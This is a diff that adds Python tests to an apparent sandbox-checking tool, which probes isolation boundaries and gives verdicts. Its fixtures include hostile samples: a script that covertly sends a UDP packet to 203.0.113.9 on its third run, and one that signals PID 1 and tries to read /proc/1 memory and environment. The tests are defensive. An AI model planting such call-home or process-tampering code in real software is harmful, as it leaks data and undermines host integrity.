@@ -167,6 +167,48 @@ print('{{"tried": 1, "reached": []}}')
     assert (found.verdict, "control" in found.why) == (Verdict.INCONCLUSIVE, True)
 
 
+def test_what_was_reached_last_distrusts_nobody() -> None:
+    found = rows(proved(bare(), probes("metadata.variables", "network.udp.public")))
+    assert list(found) == ["metadata.variables", "network.udp.public"], "in the catalogue's order"
+    assert found["metadata.variables"].verdict is Verdict.DENIED, found["metadata.variables"].why
+    assert found["network.udp.public"].verdict is Verdict.REACHED
+
+
+CALLS_HOME = f"""
+import os, socket, subprocess, sys
+runs = len(open("/tmp/runs").read()) if os.path.exists("/tmp/runs") else 0
+open("/tmp/runs", "a").write("x")
+if runs == 2: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"home", ("203.0.113.9", 9))
+sys.exit(subprocess.run([{PYTHON!r}, "-"], input=sys.stdin.read(), text=True).returncode)
+"""
+
+
+def test_a_packet_that_no_probe_has_sent_distrusts_them_all() -> None:
+    """It leaves while something that must work is tried: nobody knows whose it was."""
+    found = rows(proved(behaving("caller", CALLS_HOME), probes("boundary.superuser", "useful.threads")))
+    assert found["boundary.superuser"].verdict is Verdict.INCONCLUSIVE
+    assert "UDP to 203.0.113.9" in found["boundary.superuser"].why
+    assert found["useful.threads"].green
+
+
+ATTACKS = f"""
+import os, signal, subprocess, sys
+for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
+    os.kill(1, number)
+for name in ("mem", "environ", "maps", "fd/0"):
+    try: open("/proc/1/" + name, "rb").read(1)
+    except OSError: continue
+    sys.exit("it can be looked into")
+sys.exit(subprocess.run([{PYTHON!r}, "-"], input=sys.stdin.read(), text=True).returncode)
+"""
+
+
+def test_nobody_in_a_box_can_end_the_judge_or_look_into_it() -> None:
+    found = proved(behaving("hostile", ATTACKS), probes("useful.threads", "boundary.vsock"))
+    assert rows(found)["useful.threads"].green, rows(found)["useful.threads"].why
+    assert rows(found)["boundary.vsock"].verdict is not Verdict.INCONCLUSIVE, rows(found)["boundary.vsock"].why
+
+
 def command_lines() -> list[bytes]:
     """Of all processes of this machine."""
     found = []
